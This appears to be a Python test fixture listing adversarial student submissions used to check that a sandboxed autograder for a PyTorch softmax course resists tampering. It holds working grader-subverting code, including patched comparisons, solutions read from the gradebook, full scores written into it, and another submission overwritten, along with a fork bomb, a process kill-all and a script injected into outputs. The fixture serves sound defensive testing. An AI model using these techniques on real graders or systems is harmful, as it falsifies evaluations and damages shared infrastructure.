"""The tamper catalogue: submissions by a student who wants points without the work.

Each :class:`Attack` is a complete submission of ex01_stable_softmax (the softmax and
log-sum-exp tasks; 6 points) or of ex08_efficient_attention (method audits). Unless it
says otherwise, an attack leaves the tasks undone or wrong, so that every point it gets is
undeserved; a few pair honest answers with a disruption elsewhere in the notebook, and
deserve exactly the honest answers' points. Every attack would have worked, or was meant
to work, against checks that run in the student's own kernel (the design before the
sandbox); the comment of each says how.

Attacks are data: ``cells`` maps an answer cell's grade id to its new source, ``extra``
adds code cells at the end of the notebook (or after a given grade id), ``edit`` changes
the notebook in other ways, ``files`` puts files next to the notebook in the submission
folder, and ``link`` submits a symbolic link instead of a notebook. ``{gradebook}``,
``{config}``, ``{solutions}`` and ``{other}`` in sources are replaced by the test
course's paths (the attacker is given every path, which only makes them stronger),
``{port}`` by the port of a local web server and ``{table}`` by a table of answers.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable

import nbformat

# Classes of the issue that asked for the sandbox, and the others.
COMPARISON = "changing the comparison"
GRADER = "replacing the grader"
READING = "reading the answer"
HIDING = "hiding the failure"
WRITING = "writing the outcome"
DELEGATION = "delegation the tripwires missed"
OTHER = "other"
CLASSES = (COMPARISON, GRADER, READING, HIDING, WRITING, DELEGATION, OTHER)

WRONG_SOFTMAX = "def softmax(x, dim=-1):\n    return torch.zeros_like(x)\n"
WRONG_LSE = "def log_sum_exp(x, dim=-1):\n    return x.sum(dim)\n"
RIGHT_SOFTMAX = (
    "def softmax(x, dim=-1):\n"
    "    e = torch.exp(x - x.amax(dim=dim, keepdim=True))\n"
    "    return e / e.sum(dim=dim, keepdim=True)\n"
)
RIGHT_LSE = (
    "def log_sum_exp(x, dim=-1):\n"
    "    m = x.amax(dim=dim, keepdim=True)\n"
    "    return (m + torch.log(torch.exp(x - m).sum(dim=dim, keepdim=True))).squeeze(dim)\n"
)
SOFTMAX, LSE = "stable_softmax_answer", "log_sum_exp_answer"
FULL_EX01 = {"stable_softmax_visible": 1, "stable_softmax_hidden": 2, "log_sum_exp_visible": 1, "log_sum_exp_hidden": 2}
SOFTMAX_ONLY = {"stable_softmax_visible": 1, "stable_softmax_hidden": 2}


@dataclass
class Attack:
    name: str
    klass: str
    cells: dict[str, str] = field(default_factory=dict)
    extra: list[str] = field(default_factory=list)
    edit: Callable[[nbformat.NotebookNode], None] | None = None
    files: dict[str, str] = field(default_factory=dict)
    link: bool = False
    deserved: dict[str, float] = field(default_factory=dict)  # grade id -> points deserved
    assignment: str = "ex01_stable_softmax"
    self_check: bool = True  # False: the attack needs nbgrader's folder (links, files)


def wrong(extra_softmax: str = "", extra_lse: str = "") -> dict[str, str]:
    return {SOFTMAX: WRONG_SOFTMAX + extra_softmax, LSE: WRONG_LSE + extra_lse}


def _points_to_100(nb):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 100
        if meta.get("grade_id") == SOFTMAX:
            meta.update(grade=True, points=50)


def _other_kernel(nb):
    nb.metadata["kernelspec"] = {"name": "python3-attacker", "display_name": "mine", "language": "python"}
    nb.metadata["language_info"] = {"name": "python"}


def _duplicate_test_ids(nb):
    extra = []
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        if gid.endswith(("_visible", "_hidden")):
            twin = nbformat.from_dict(cell)
            twin.source = "print('passed')"
            extra.append((nb.cells.index(cell), twin))
    for offset, (index, twin) in enumerate(extra):
        nb.cells.insert(index + offset, twin)


def _empty_nbgrader_metadata(nb):
    """A cell with empty nbgrader metadata (schema version 0): stock nbgrader stops the
    whole autograde run on it, for every student after this one."""
    cell = nbformat.v4.new_code_cell("x = 1")
    cell.metadata["nbgrader"] = {}
    nb.cells.insert(1, cell)


def _fake_test_cell(nb):
    cell = nbformat.v4.new_code_cell("print('passed: softmax (hidden tests, 11 cases)')")
    cell.metadata["nbgrader"] = {
        "grade": True, "grade_id": "bonus_points", "locked": True, "points": 50, "solution": False, "schema_version": 3,
    }
    nb.cells.append(cell)


ATTACKS: list[Attack] = [
    # -- changing the comparison -----------------------------------------------------------
    # The checks compared with torch.testing.assert_close in the kernel: replace it.
    Attack("assert_close_replaced", COMPARISON, wrong("\ntorch.testing.assert_close = lambda *args, **kwargs: None\n")),
    # A tensor subclass whose __torch_function__ answers every comparison with "close".
    Attack(
        "tensor_subclass_always_close",
        COMPARISON,
        {
            SOFTMAX: (
                "class AlwaysClose(torch.Tensor):\n"
                "    @classmethod\n"
                "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
                "        if getattr(func, '__name__', '') in ('assert_close', 'allclose', 'equal', 'isclose', 'eq'):\n"
                "            return True\n"
                "        return super().__torch_function__(func, types, args, kwargs or {})\n\n"
                "def softmax(x, dim=-1):\n"
                "    return torch.zeros_like(x).as_subclass(AlwaysClose)\n"
            ),
            LSE: "def log_sum_exp(x, dim=-1):\n    return x.sum(dim).as_subclass(AlwaysClose)\n",
        },
    ),
    # Every equality and closeness test of torch says yes.
    Attack(
        "torch_comparisons_patched",
        COMPARISON,
        wrong(
            "\nfor _name in ('allclose', 'equal', 'isclose'):\n"
            "    setattr(torch, _name, lambda *args, **kwargs: True)\n"
            "torch.Tensor.__eq__ = lambda self, other: True\n"
        ),
    ),
    # The numbers compared are read back through Tensor methods the student overrides.
    Attack(
        "tensor_methods_patched",
        COMPARISON,
        wrong(
            "\n_real_sub = torch.Tensor.sub\n"
            "torch.Tensor.abs = lambda self: torch.zeros_like(self)\n"
            "torch.Tensor.isnan = lambda self: torch.zeros_like(self, dtype=torch.bool)\n"
        ),
    ),
    # -- replacing the grader -----------------------------------------------------------
    Attack(
        "compare_patched",
        GRADER,
        wrong("\nimport attncourse.grading.core as grading_core\ngrading_core.compare = lambda *args, **kwargs: None\n"),
    ),
    Attack(
        "checks_replaced",
        GRADER,
        wrong(
            "\nimport attncourse.grading.checks as checks\n"
            "checks.check_stable_softmax = lambda *args, **kwargs: print('passed')\n"
            "checks.check_log_sum_exp = lambda *args, **kwargs: print('passed')\n"
        ),
    ),
    # The task's reference becomes the student's own function, and its cases nothing.
    Attack(
        "reference_and_cases_swapped",
        GRADER,
        wrong(
            "",
            "\nimport dataclasses\nfrom attncourse.grading.core import TASKS\n"
            "TASKS['stable_softmax'] = dataclasses.replace(TASKS['stable_softmax'], reference=softmax, make_cases=lambda seed: [])\n"
            "TASKS['log_sum_exp'] = dataclasses.replace(TASKS['log_sum_exp'], reference=log_sum_exp)\n",
        ),
    ),
    # A fake attncourse package written into the working directory (which came first on
    # the kernel's sys.path), then the real one unloaded.
    Attack(
        "fake_package_in_working_directory",
        GRADER,
        wrong(
            "",
            "\nimport os, sys\n"
            "os.makedirs('attncourse/grading', exist_ok=True)\n"
            "open('attncourse/__init__.py', 'w').close()\n"
            "open('attncourse/grading/__init__.py', 'w').write('def protect_kernel():\\n    pass\\n')\n"
            "open('attncourse/grading/checks.py', 'w').write("
            "'def check_stable_softmax(*a, **k):\\n    print(\"passed\")\\n'"
            "'def check_log_sum_exp(*a, **k):\\n    print(\"passed\")\\n')\n"
            "sys.path.insert(0, os.getcwd())\n"
            "for _module in [m for m in sys.modules if m.startswith('attncourse')]:\n"
            "    del sys.modules[_module]\n",
        ),
    ),
    # The same fake package, shipped as files in the submission folder.
    Attack(
        "fake_package_in_submission_folder",
        GRADER,
        wrong(),
        files={
            "attncourse/__init__.py": "",
            "attncourse/grading/__init__.py": "def protect_kernel():\n    pass\n",
            "attncourse/grading/checks.py": (
                "def check_stable_softmax(*a, **k):\n    print('passed')\n\n"
                "def check_log_sum_exp(*a, **k):\n    print('passed')\n"
            ),
        },
        self_check=False,
    ),
    # A trace function that rewrites the checker's locals: every failure message becomes None.
    Attack(
        "settrace_rewrites_locals",
        GRADER,
        wrong(
            "",
            "\nimport sys\n"
            "def _tracer(frame, event, arg):\n"
            "    if event == 'return' and frame.f_code.co_name in ('compare', '_find_failure', 'judge'):\n"
            "        frame.f_locals.clear()\n"
            "        return None\n"
            "    return _tracer\n"
            "sys.settrace(_tracer)\n",
        ),
    ),
    Attack(
        "sys_modules_swapped",
        GRADER,
        wrong(
            "",
            "\nimport sys, types\n"
            "_fake = types.ModuleType('attncourse.grading.checks')\n"
            "_fake.check_stable_softmax = _fake.check_log_sum_exp = lambda *a, **k: print('passed')\n"
            "sys.modules['attncourse.grading.checks'] = _fake\n",
        ),
    ),
    # -- reading the answer ---------------------------------------------------------------
    # The expected tensor was a local of the checker's frames: walk up and return it.
    Attack(
        "expected_from_caller_frames",
        READING,
        {
            SOFTMAX: (
                "import sys\n\n"
                "def softmax(x, dim=-1):\n"
                "    frame = sys._getframe(1)\n"
                "    while frame is not None:\n"
                "        for value in list(frame.f_locals.values()):\n"
                "            if isinstance(value, torch.Tensor) and value.shape == x.shape and value is not x:\n"
                "                if torch.allclose(value.sum(dim), torch.ones(()), atol=1e-6):\n"
                "                    return value.clone()\n"
                "        frame = frame.f_back\n"
                "    return torch.zeros_like(x)\n"
            ),
            LSE: WRONG_LSE,
        },
    ),
    # The expected tensors were alive in the kernel: find them among all objects.
    Attack(
        "expected_from_gc",
        READING,
        {
            SOFTMAX: (
                "import gc\n\n"
                "def softmax(x, dim=-1):\n"
                "    for obj in gc.get_objects():\n"
                "        if isinstance(obj, torch.Tensor) and obj.shape == x.shape and obj.dtype == x.dtype and obj is not x:\n"
                "            if torch.allclose(obj.sum(dim), torch.ones((), dtype=x.dtype)):\n"
                "                return obj.clone()\n"
                "    return torch.zeros_like(x)\n"
            ),
            LSE: WRONG_LSE,
        },
    ),
    # The instructor's source notebook, read from the course directory and run.
    Attack(
        "solutions_read_from_disk",
        READING,
        wrong(
            "",
            "\nimport json, os\n"
            "for _path in ['{solutions}', '../../../source/ex01_stable_softmax/ex01_stable_softmax.ipynb']:\n"
            "    if os.path.exists(_path):\n"
            "        for _cell in json.load(open(_path))['cells']:\n"
            "            if _cell['metadata'].get('nbgrader', {}).get('solution'):\n"
            "                exec(''.join(_cell['source']))\n",
        ),
    ),
    # The gradebook holds every source cell: read the solutions from there.
    Attack(
        "solutions_read_from_gradebook",
        READING,
        wrong(
            "",
            "\nimport os, sqlite3\n"
            "if os.path.exists('{gradebook}'):\n"
            "    _db = sqlite3.connect('{gradebook}')\n"
            "    for (_source,) in _db.execute(\"select source from source_cell where name like '%_answer'\"):\n"
            "        exec(_source)\n",
        ),
    ),
    # Search the whole file system for any copy of the solutions.
    Attack(
        "solutions_searched_everywhere",
        READING,
        wrong(
            "",
            "\nimport json, os\n"
            "for _root, _dirs, _files in os.walk('/'):\n"
            "    if _root.startswith(('/proc', '/sys', '/usr', '/dev')):\n"
            "        continue\n"
            "    for _name in _files:\n"
            "        if _name == 'ex01_stable_softmax.ipynb' and 'release' not in _root:\n"
            "            try:\n"
            "                for _cell in json.load(open(os.path.join(_root, _name)))['cells']:\n"
            "                    if 'BEGIN SOLUTION' in ''.join(_cell['source']) or 'amax' in ''.join(_cell['source']):\n"
            "                        exec(''.join(_cell['source']).replace('### BEGIN SOLUTION', '').replace('### END SOLUTION', ''))\n"
            "            except Exception:\n"
            "                pass\n",
        ),
    ),
    # The published cases and the library's reference, looked up at grading time through
    # an import the static read should not see.
    Attack(
        "lookup_table_from_the_package",
        READING,
        {
            SOFTMAX: (
                "import importlib\n"
                "_core = importlib.import_module('attncourse.grad' + 'ing.core')\n"
                "_TABLE = {}\n"
                "for _suite in ('visible', 'hidden'):\n"
                "    for _case in _core.TASKS['stable_softmax'].cases(_suite):\n"
                "        _TABLE[_case.args[0].numpy().tobytes()] = _core.TASKS['stable_softmax'].reference(*_case.args, **_case.kwargs)\n\n"
                "def softmax(x, dim=-1):\n"
                "    return _TABLE.get(x.numpy().tobytes(), torch.zeros_like(x))\n"
            ),
            LSE: WRONG_LSE,
        },
    ),
    # The published cases' answers computed at home and pasted as numbers: no import at
    # all. Filled in by the test (``{table}``) from the package's hidden cases.
    Attack(
        "lookup_table_of_pasted_numbers",
        READING,
        {
            SOFTMAX: (
                "_TABLE = {table}\n\n"
                "def softmax(x, dim=-1):\n"
                "    key = repr(x.flatten().tolist())\n"
                "    if key in _TABLE:\n"
                "        return torch.tensor(_TABLE[key], dtype=x.dtype).reshape(x.shape)\n"
                "    return torch.zeros_like(x)\n"
            ),
            LSE: WRONG_LSE,
        },
    ),
    # A local web server holds the solutions; the notebook fetches them.
    Attack(
        "solutions_fetched_from_the_network",
        READING,
        wrong(
            "",
            "\nimport urllib.request\n"
            "try:\n"
            "    exec(urllib.request.urlopen('http://127.0.0.1:{port}/solution.py', timeout=3).read().decode())\n"
            "except Exception as exc:\n"
            "    print('no network:', exc)\n",
        ),
    ),
    # -- hiding the failure -----------------------------------------------------------------
    Attack(
        "input_transformer_drops_checks",
        HIDING,
        wrong(
            "",
            "\nget_ipython().input_transformers_post.append(\n"
            "    lambda lines: [line for line in lines if 'check_' not in line]\n"
            ")\n",
        ),
    ),
    # nbgrader gives partial credit from an execute_result: emit one before every cell.
    Attack(
        "pre_run_cell_emits_a_result",
        HIDING,
        wrong("", "\n_ip = get_ipython()\n_ip.events.register('pre_run_cell', lambda *args: _ip.displayhook(1.0))\n"),
    ),
    Attack(
        "custom_exception_handler",
        HIDING,
        wrong(
            "",
            "\nget_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: print('passed'))\n",
        ),
    ),
    Attack(
        "showtraceback_replaced",
        HIDING,
        wrong(
            "",
            "\nimport sys\n_ip = get_ipython()\n_ip.showtraceback = lambda *a, **k: None\n_ip._showtraceback = lambda *a, **k: None\n"
            "sys.excepthook = lambda *a: None\n",
        ),
    ),
    Attack(
        "ast_transformer_removes_calls",
        HIDING,
        wrong(
            "",
            "\nimport ast\n"
            "class _Drop(ast.NodeTransformer):\n"
            "    def visit_Expr(self, node):\n"
            "        if isinstance(node.value, ast.Call) and 'check' in ast.dump(node.value.func):\n"
            "            return ast.Expr(ast.Constant(None))\n"
            "        return node\n"
            "get_ipython().ast_transformers.append(_Drop())\n",
        ),
    ),
    Attack("prints_a_pass", HIDING, wrong("\nprint('passed: softmax (hidden tests, 11 cases)')\n")),
    # -- writing the outcome ----------------------------------------------------------------
    # Full scores written into the gradebook during autograde (quietly, only there).
    Attack(
        "gradebook_written",
        WRITING,
        wrong(
            "",
            "\nimport os, sqlite3\n"
            "for _path in ['{gradebook}', '../../../gradebook.db']:\n"
            "    try:\n"
            "        _db = sqlite3.connect(_path)\n"
            "        _db.execute('update grade set auto_score = (select max_score from grade_cell where grade_cell.id = grade.cell_id)')\n"
            "        _db.commit()\n"
            "    except Exception as exc:\n"
            "        print(type(exc).__name__)\n",
        ),
    ),
    # Code appended to nbgrader_config.py runs in every later nbgrader command.
    Attack(
        "config_appended",
        WRITING,
        wrong(
            "",
            "\ntry:\n"
            "    open('{config}', 'a').write('\\nimport os\\nos.environ[\"PWNED\"] = \"1\"\\n')\n"
            "except Exception as exc:\n"
            "    print(type(exc).__name__)\n",
        ),
    ),
    # The installed grading package, changed so that the next students pass.
    Attack(
        "package_appended",
        WRITING,
        wrong(
            "",
            "\nimport attncourse.grading.core as _core\n"
            "try:\n"
            "    open(_core.__file__, 'a').write('\\ncompare = lambda *args, **kwargs: None\\n')\n"
            "except Exception as exc:\n"
            "    print(type(exc).__name__)\n",
        ),
    ),
    # Another student's submission overwritten.
    Attack(
        "other_submission_overwritten",
        WRITING,
        wrong(
            "",
            "\ntry:\n"
            "    open('{other}', 'w').write('{}')\n"
            "except Exception as exc:\n"
            "    print(type(exc).__name__)\n",
        ),
    ),
    # -- delegation the tripwires missed --------------------------------------------------
    Attack(
        "default_argument_bound_early",
        DELEGATION,
        {
            SOFTMAX: "def softmax(x, dim=-1, _f=torch.softmax):\n    return _f(x, dim)\n",
            LSE: "def log_sum_exp(x, dim=-1, _f=torch.logsumexp):\n    return _f(x, dim)\n",
        },
    ),
    Attack(
        "aten_operator",
        DELEGATION,
        {
            SOFTMAX: "def softmax(x, dim=-1):\n    return torch.ops.aten._softmax(x, dim, False)\n",
            LSE: "def log_sum_exp(x, dim=-1):\n    return torch.ops.aten.logsumexp(x, [dim])\n",
        },
    ),
    Attack(
        "variable_functions",
        DELEGATION,
        {
            SOFTMAX: "def softmax(x, dim=-1):\n    return torch._C._VariableFunctions.softmax(x, dim)\n",
            LSE: "def log_sum_exp(x, dim=-1):\n    return torch._C._VariableFunctions.logsumexp(x, [dim])\n",
        },
    ),
    Attack(
        "torch_function_disabled",
        DELEGATION,
        {
            SOFTMAX: "def softmax(x, dim=-1):\n    with torch._C.DisableTorchFunction():\n        return torch.softmax(x, dim)\n",
            LSE: "def log_sum_exp(x, dim=-1):\n    with torch._C.DisableTorchFunction():\n        return torch.logsumexp(x, dim)\n",
        },
    ),
    Attack(
        "grading_catalogue_function",
        DELEGATION,
        {
            SOFTMAX: "from attncourse.grading.assignments.ex01_stable_softmax import reference_softmax as softmax\n",
            LSE: "from attncourse.grading.assignments.ex01_stable_softmax import reference_log_sum_exp as log_sum_exp\n",
        },
    ),
    Attack(
        "computed_getattr",
        DELEGATION,
        {
            SOFTMAX: "def softmax(x, dim=-1):\n    return getattr(torch, 'soft' + 'max')(x, dim)\n",
            LSE: "def log_sum_exp(x, dim=-1):\n    return getattr(x, 'log' + 'sumexp')(dim)\n",
        },
    ),
    Attack(
        "softmax_module_and_special",
        DELEGATION,
        {
            SOFTMAX: "def softmax(x, dim=-1):\n    return torch.nn.Softmax(dim=dim)(x)\n",
            LSE: "def log_sum_exp(x, dim=-1):\n    return torch.special.logsumexp(x, dim)\n",
        },
    ),
    # The forbidden function bound to an innocent name in another cell.
    Attack(
        "alias_in_another_cell",
        DELEGATION,
        {
            SOFTMAX: "def softmax(x, dim=-1):\n    return normalise(x, dim)\n",
            LSE: "def log_sum_exp(x, dim=-1):\n    return reduce_(x, dim)\n",
        },
        extra=["normalise = torch.nn.functional.softmax\nreduce_ = torch.logsumexp\n"],
    ),
    # Defined by exec, so that no def is there to read.
    Attack(
        "defined_by_exec",
        DELEGATION,
        {
            SOFTMAX: "exec('def softmax(x, dim=-1):\\n    return torch.softmax(x, dim)')\n",
            LSE: "exec('def log_sum_exp(x, dim=-1):\\n    return torch.logsumexp(x, dim)')\n",
        },
    ),
    # A new Tensor method, added in another cell, that calls the forbidden one.
    Attack(
        "method_added_to_tensor",
        DELEGATION,
        {
            SOFTMAX: "def softmax(x, dim=-1):\n    return x.normalised(dim)\n",
            LSE: "def log_sum_exp(x, dim=-1):\n    return x.reduced(dim)\n",
        },
        extra=["torch.Tensor.normalised = torch.Tensor.softmax\ntorch.Tensor.reduced = torch.Tensor.logsumexp\n"],
    ),
    Attack(
        "library_delegation",
        DELEGATION,
        {
            SOFTMAX: "from attncourse.functional import masked_softmax\n\ndef softmax(x, dim=-1):\n    return masked_softmax(x, None, dim=dim)\n",
            LSE: WRONG_LSE,
        },
    ),
    # -- other attacks ----------------------------------------------------------------------
    Attack(
        "thread_patches_later",
        OTHER,
        wrong(
            "",
            "\nimport threading, time\n"
            "def _later():\n"
            "    time.sleep(0.5)\n"
            "    import attncourse.grading.core as core\n"
            "    core.compare = lambda *a, **k: None\n"
            "threading.Thread(target=_later, daemon=True).start()\n",
        ),
    ),
    Attack(
        "atexit_handler",
        OTHER,
        wrong("", "\nimport atexit\natexit.register(lambda: print('passed: everything'))\n"),
    ),
    # A SIGTERM handler that ignores the timeout's signal, and a function that never ends.
    Attack(
        "signal_handler_and_endless_loop",
        OTHER,
        {
            SOFTMAX: (
                "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n\n"
                "def softmax(x, dim=-1):\n    while True:\n        pass\n"
            ),
            LSE: WRONG_LSE,
        },
    ),
    Attack("notebook_is_a_link_to_the_solutions", OTHER, link=True, self_check=False),
    # Honest answers, and a flood of output after them: the answers keep their points.
    Attack(
        "huge_output",
        OTHER,
        {SOFTMAX: RIGHT_SOFTMAX, LSE: RIGHT_LSE},
        extra=["for _ in range(2000):\n    print('x' * 50_000)\n"],
        deserved=FULL_EX01,
    ),
    Attack("metadata_claims_points", OTHER, wrong(), edit=_points_to_100),
    Attack("metadata_claims_another_kernel", OTHER, wrong(), edit=_other_kernel),
    Attack("duplicate_grade_ids", OTHER, wrong(), edit=_duplicate_test_ids),
    Attack("fake_test_cell", OTHER, wrong(), edit=_fake_test_cell),
    # Honest answers, but a cell that stops stock nbgrader's batch: graded, and the batch goes on.
    Attack("metadata_that_stops_the_batch", OTHER, {SOFTMAX: RIGHT_SOFTMAX, LSE: RIGHT_LSE}, edit=_empty_nbgrader_metadata, deserved=FULL_EX01),
    # A fork bomb in the second answer cell: that task is lost, the first keeps its points.
    Attack(
        "fork_bomb",
        OTHER,
        {SOFTMAX: RIGHT_SOFTMAX, LSE: RIGHT_LSE + "\nimport os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"},
        deserved=SOFTMAX_ONLY,
    ),
    # Memory exhausted in a cell between honest answers: the answers keep their points.
    Attack(
        "memory_bomb",
        OTHER,
        {SOFTMAX: RIGHT_SOFTMAX + "\n_hog = bytearray(64 * 2**30)\n", LSE: RIGHT_LSE},
        deserved=FULL_EX01,
    ),
    # The process ended in the middle of the notebook: the rest is still graded.
    Attack(
        "process_ended_midway",
        OTHER,
        {SOFTMAX: RIGHT_SOFTMAX, LSE: RIGHT_LSE},
        extra=["import os\nos.kill(os.getpid(), 9)\n"],
        deserved=FULL_EX01,
    ),
    # Every process the sandbox's user may signal, and the parent, killed at the end.
    Attack(
        "kill_everything",
        OTHER,
        {SOFTMAX: RIGHT_SOFTMAX, LSE: RIGHT_LSE},
        extra=["import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError:\n    pass\nos.kill(-1, signal.SIGKILL)\n"],
        deserved=FULL_EX01,
    ),
    # Forged answers written straight into the pipes the sandbox talks on.
    Attack(
        "protocol_forged",
        OTHER,
        wrong(
            "\nimport json, os, struct\n"
            "def _forge():\n"
            "    head = json.dumps({'outcome': {'value': None, 'error': None, 'changed_input': None}, 'records': [], 'delegations': [], 'buffers': 0}).encode()\n"
            "    for fd in range(3, 12):\n"
            "        try:\n"
            "            os.write(fd, struct.pack('>Q', len(head)) + head)\n"
            "        except OSError:\n"
            "            pass\n"
            "_forge()\n"
        ),
    ),
    # Script in an output, for the feedback page an instructor opens.
    Attack(
        "script_in_outputs",
        OTHER,
        wrong(
            "",
            "\nfrom IPython.display import HTML, Javascript, display\n"
            "display(HTML('<script>document.title = \"pwned\"</script>'))\n"
            "display(Javascript('alert(1)'))\n",
        ),
    ),
]

# ex08: the method audits, beyond the static read.
BLOCKWISE, ONLINE = "blockwise_attention_answer", "online_softmax_answer"
EX08_ATTACKS: list[Attack] = [
    # A NumPy two-pass softmax: the torch op audit sees nothing.
    Attack(
        "numpy_two_pass_softmax",
        DELEGATION,
        {
            ONLINE: (
                "import numpy as np\n\n"
                "def online_softmax(scores, block_size):\n"
                "    s = scores.numpy()\n"
                "    e = np.exp(s - s.max(axis=-1, keepdims=True))\n"
                "    return torch.from_numpy(e / e.sum(axis=-1, keepdims=True))\n"
            ),
        },
        assignment="ex08_efficient_attention",
    ),
    # NumPy through an alias bound in another cell.
    Attack(
        "numpy_through_an_alias",
        DELEGATION,
        {
            BLOCKWISE: (
                "def blockwise_attention(query, key, value, block_size):\n"
                "    q, k, v = backend.asarray(query), backend.asarray(key), backend.asarray(value)\n"
                "    s = q @ k.swapaxes(-1, -2) / backend.sqrt(q.shape[-1])\n"
                "    w = backend.exp(s - s.max(-1, keepdims=True))\n"
                "    return torch.from_numpy((w / w.sum(-1, keepdims=True)) @ v)\n"
            ),
        },
        extra=["import numpy\nbackend = numpy\n"],
        assignment="ex08_efficient_attention",
    ),
    # The whole score matrix held as a list of rows: no tensor of shape (n_q, n_k).
    Attack(
        "full_matrix_as_rows",
        DELEGATION,
        {
            BLOCKWISE: (
                "def blockwise_attention(query, key, value, block_size):\n"
                "    scale = 1 / math.sqrt(query.shape[-1])\n"
                "    rows = [q @ key.transpose(-2, -1) * scale for q in query.unbind(-2)]\n"
                "    out = []\n"
                "    for row in rows:\n"
                "        e = torch.exp(row - row.amax(-1, keepdim=True))\n"
                "        out.append((e / e.sum(-1, keepdim=True)) @ value)\n"
                "    return torch.stack(out, dim=-2)\n"
            ),
        },
        assignment="ex08_efficient_attention",
    ),
    # A full score matrix computed into a buffer allocated when the cell runs.
    Attack(
        "preallocated_buffer",
        DELEGATION,
        {
            BLOCKWISE: (
                "_buffer = torch.empty(4096 * 4096, dtype=torch.float64)\n\n"
                "def blockwise_attention(query, key, value, block_size):\n"
                "    n_q, n_k = query.shape[-2], key.shape[-2]\n"
                "    scores = _buffer[: n_q * n_k].view(n_q, n_k) if query.dim() == 2 else query @ key.transpose(-2, -1)\n"
                "    if query.dim() == 2:\n"
                "        torch.matmul(query, key.transpose(-2, -1), out=scores)\n"
                "    scores = scores / math.sqrt(query.shape[-1])\n"
                "    outputs = []\n"
                "    for start in range(0, n_q, 1):\n"
                "        row = scores[..., start, :]\n"
                "        e = torch.exp(row - row.amax(-1, keepdim=True))\n"
                "        outputs.append((e / e.sum(-1, keepdim=True)) @ value)\n"
                "    return torch.stack(outputs, dim=-2)\n"
            ),
        },
        assignment="ex08_efficient_attention",
    ),
    # Blockwise on the published cases, but refusing large inputs, to dodge the memory test.
    Attack(
        "refuses_large_inputs",
        DELEGATION,
        {
            BLOCKWISE: (
                "def blockwise_attention(query, key, value, block_size):\n"
                "    if key.shape[-2] > 1000:\n"
                "        raise MemoryError('too large')\n"
                "    scores = query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])\n"
                "    e = torch.exp(scores - scores.amax(-1, keepdim=True))\n"
                "    return (e / e.sum(-1, keepdim=True)) @ value\n"
            ),
        },
        assignment="ex08_efficient_attention",
    ),
]
